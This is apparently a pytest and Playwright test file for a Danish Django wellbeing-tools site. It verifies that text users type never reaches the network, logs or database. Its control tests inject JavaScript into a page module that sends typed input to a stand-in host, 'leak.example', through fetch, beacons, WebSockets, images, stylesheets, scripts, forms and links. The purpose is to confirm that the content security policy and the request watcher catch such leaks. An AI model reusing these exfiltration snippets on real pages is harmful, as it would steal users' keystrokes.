"""Nothing leaves: words are typed everywhere, and every way out of page and worker is watched,
and every way in at the server. The same watch catches pages that leak on purpose.
"""

import logging
from pathlib import Path
from urllib.parse import unquote_plus, urlsplit

import pytest
from django.contrib.staticfiles import finders
from django.core.signals import request_started
from django.db import connections
from django.utils import timezone
from playwright.sync_api import expect

import drafting
import filling
from drafting import CURVE, OVERVIEW, REASONS, is_kept, open_tool
from trivsel.figures import services
from trivsel.figures.models import Opening

STEM = "kanariefugl"
TOOLS = [CURVE, OVERVIEW, "krav-og-ressourcer", "trivselstrekanten"]
REST = "navigator.locks.request('trivsel-tools-1-da', () => {})"  # the worker has finished
ICON = "/static/ui/icon.svg"
VIOLATIONS = """
  window.refused = [];
  addEventListener("securitypolicyviolation", (event) =>
    window.refused.push(`${event.effectiveDirective} ${event.disposition}`));
"""


class Watch:
    """Everything that goes out of a browser, and everything that comes in at the server."""

    def __init__(self, context):
        self.asked = []
        self.by_page = []  # without what the worker asks for to keep the page
        self.sockets = []
        self.came_in = []
        context.on("request", self.see)
        context.on("page", self.see_page)
        request_started.connect(self.see_server)

    def see(self, request):
        headers = " ".join(f"{name}: {value}" for name, value in request.headers.items())
        body = (request.post_data_buffer or b"").decode("utf-8", "replace")
        self.asked.append((request.method, request.url, f"{headers} {body}"))
        if request.service_worker is None:
            self.by_page.append(request.url)

    def see_page(self, page):
        page.on("websocket", lambda socket: self.sockets.append(socket.url))

    def see_server(self, environ, **_):
        self.came_in.append(" ".join(str(value) for value in environ.values()))

    def close(self):
        request_started.disconnect(self.see_server)

    def everything(self):
        """All of it as text, also what is written in an address with per cents."""
        whole = [" ".join(one) for one in self.asked] + self.sockets + self.came_in
        return "\n".join([*whole, *map(unquote_plus, whole)])

    def beyond(self, host):
        """Requests that are no plain reading of the page's own files."""
        return [
            f"{method} {url}"
            for method, url, _ in self.asked
            if not url.startswith("blob:")
            and (method != "GET" or urlsplit(url).netloc != host or urlsplit(url).query)
        ]


@pytest.fixture
def context(chromium, live_server):
    context = chromium.new_context(base_url=live_server.url, locale="da-DK")
    context.set_default_timeout(10_000)
    context.add_init_script(VIOLATIONS)
    yield context
    context.close()


@pytest.fixture
def watch(context):
    watch = Watch(context)
    yield watch
    watch.close()


def stores():
    """All rows of both stores, as text. The test stores lie in memory, as the files would."""
    whole = []
    for name in ("default", "ballots"):
        with connections[name].cursor() as cursor:
            for table in connections[name].introspection.table_names(cursor):
                cursor.execute(f'SELECT * FROM "{table}"')  # noqa: S608 - our own tables
                whole += map(str, cursor.fetchall())
    return "\n".join(whole)


def print_it(page):
    page.locator(".top [data-do=print]").click()
    page.locator("[data-do=print-now]").click()
    page.pdf(format="A4")


def save_and_open(page):
    dialog = drafting.menu(page)
    dialog.locator("[data-name]").fill(f"{STEM}-navn")
    with page.expect_download() as download:
        dialog.get_by_role("button", name="Gem som fil").click()
    dialog.locator("[data-file]").set_input_files(download.value.path())
    expect(dialog).not_to_be_visible()


def find_a_tool(page):
    page.goto("/da/")
    page.locator("body.ready").wait_for()
    page.locator("[data-guide] summary").click()
    for name in ("who", "what", "time"):
        page.locator(f"[name={name}]").first.check()
    expect(page.locator("[data-suggested] a")).to_have_count(2)
    page.locator("[data-search-box]").press_sequentially(f"{STEM} møder")
    expect(page.locator("[data-found] a").first).to_be_visible()
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    page.wait_for_url("**/vaerktoej/**")
    page.locator("[data-ready=yes]").wait_for()


def test_nothing_that_is_typed_leaves_the_browser(context, live_server, watch, caplog):
    caplog.set_level(logging.DEBUG)
    words = filling.Words(STEM)
    page = context.new_page()
    for slug in TOOLS:
        open_tool(page, slug)
        for _ in filling.by_keyboard(page, words):
            pass
        is_kept(page)
        print_it(page)
        save_and_open(page)
    find_a_tool(page)
    page.evaluate(REST)

    assert len(words.typed) > 40
    assert words.stem in str(drafting.drafts(page))  # the words are there, and only there
    assert watch.beyond(urlsplit(live_server.url).netloc) == []
    assert watch.sockets == []
    assert STEM not in watch.everything()
    assert STEM not in caplog.text
    assert STEM not in stores()
    assert "figures_opening" in connections["default"].introspection.table_names()
    assert "B02" in stores()  # the counting is there, and says nothing else


def test_once_it_is_open_a_tool_asks_for_nothing_more(context, watch):
    page = context.new_page()
    open_tool(page, REASONS)
    page.evaluate(REST)
    before = list(watch.by_page)

    for _ in filling.by_keyboard(page, filling.Words(STEM)):
        pass
    is_kept(page)
    print_it(page)

    # The test server lets nothing be cached: Chromium reads the icon again with each step.
    assert {urlsplit(url).path for url in watch.by_page[len(before) :]} <= {ICON}
    assert page.evaluate("window.refused") == []


# --- the controls: pages that leak ------------------------------------------------------------
LEAKS = {
    "fetch": "fetch(`/da/?${word}`).catch(() => {})",
    "fetch of another host": "fetch(`https://leak.example/?${word}`).catch(() => {})",
    "beacon": "navigator.sendBeacon('/da/', word)",
    "socket": "try { new WebSocket(`wss://leak.example/${word}`) } catch {}",
    "events": "try { new EventSource(`/da/?${word}`) } catch {}",
    "picture": "new Image().src = `https://leak.example/${word}.png`",
    "frame": "const f = document.createElement('iframe'); f.src = `/da/?${word}`;"
    " document.body.append(f)",
    "form": "const f = document.createElement('form'); f.action = `/da/?${word}`;"
    " document.body.append(f); f.submit()",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.href = `https://leak.example/${word}.css`; document.head.append(l)",
    "script": "const s = document.createElement('script');"
    " try { s.src = `https://leak.example/${word}.js` } catch {} document.head.append(s)",
}
# What the policy cannot refuse, since a page may read its own host and be left by a link.
CAUGHT = {
    "own picture": "new Image().src = `/static/ui/icon.svg?${word}`",
    "link": "const a = document.createElement('a'); a.href = `/da/?${word}`;"
    " document.body.append(a); a.click()",
    "address": "location.href = `/da/vaerktoej/mit-bidrag/?${word}`",
    "window": "window.open(`/da/?${word}`)",
}


def leaking(context, leak):
    """A page whose own module sends the first word that is typed."""

    module = Path(finders.find("toolbox/doing/history.js")).read_text(encoding="utf-8")
    sends = (
        f"addEventListener('input', ({{ target }}) => {{ const word = target.value; {leak} }})"
    )
    context.route(
        "**/doing/history.js",
        lambda route: route.fulfill(body=f"{module}\n{sends}", content_type="text/javascript"),
    )
    page = context.new_page()
    open_tool(page, REASONS)
    drafting.step(page, "other").get_by_role("textbox").fill(STEM)
    return page


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS)
def test_a_page_that_leaks_is_refused_by_the_browser(context, watch, leak):
    page = leaking(context, leak)

    page.wait_for_function("window.refused.length > 0")
    page.evaluate(REST)

    assert STEM not in "\n".join(watch.came_in)
    assert watch.sockets == []
    assert page.url.endswith("#other")


@pytest.mark.parametrize("leak", CAUGHT.values(), ids=CAUGHT)
def test_a_leak_no_policy_refuses_is_seen_by_the_watch(context, live_server, watch, leak):
    with context.expect_event("requestfinished", lambda request: STEM in request.url):
        leaking(context, leak)

    assert STEM in watch.everything()
    assert STEM in "\n".join(watch.came_in)
    assert watch.beyond(urlsplit(live_server.url).netloc)


@pytest.mark.django_db(transaction=True, databases="__all__")
def test_a_word_in_the_log_or_in_a_store_would_be_found(caplog):
    caplog.set_level(logging.DEBUG)
    assert STEM not in stores()

    services.count(STEM, Opening.What.PAGE, on=timezone.localdate())
    logging.getLogger("trivsel").debug("somebody wrote %s", STEM)

    assert STEM in stores()
    assert STEM in caplog.text
